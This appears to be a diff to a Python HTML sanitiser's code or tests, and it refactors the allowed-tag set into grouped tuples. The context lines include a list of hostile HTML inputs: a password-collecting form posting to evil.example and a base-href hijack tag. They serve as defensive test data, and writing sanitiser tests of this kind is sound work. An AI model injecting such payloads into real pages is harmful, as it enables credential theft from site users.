@@ -36,32 +36,10 @@ HOSTILE = [
     "<form action=//evil.example><input name=password></form>",
     "<!-- --><base href=//evil.example>",
 ]
-ALLOWED = set(
-    [
-        "p",
-        "br",
-        "hr",
-        "strong",
-        "em",
-        "s",
-        "code",
-        "pre",
-        "blockquote",
-        "a",
-        "ul",
-        "ol",
-        "li",
-        "h4",
-        "h5",
-        "h6",
-        "table",
-        "thead",
-        "tbody",
-        "tr",
-        "th",
-        "td",
-    ]
-)
+HEADINGS = ("h4", "h5", "h6")
+TABLES = ("table", "thead", "tbody", "tr", "th", "td")
+WORDS = ("p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "a", "ul", "ol", "li")
+ALLOWED = {*HEADINGS, *TABLES, *WORDS}
 TAG = re.compile(r"<(/?)(\w+)([^>]*)>")
 
 
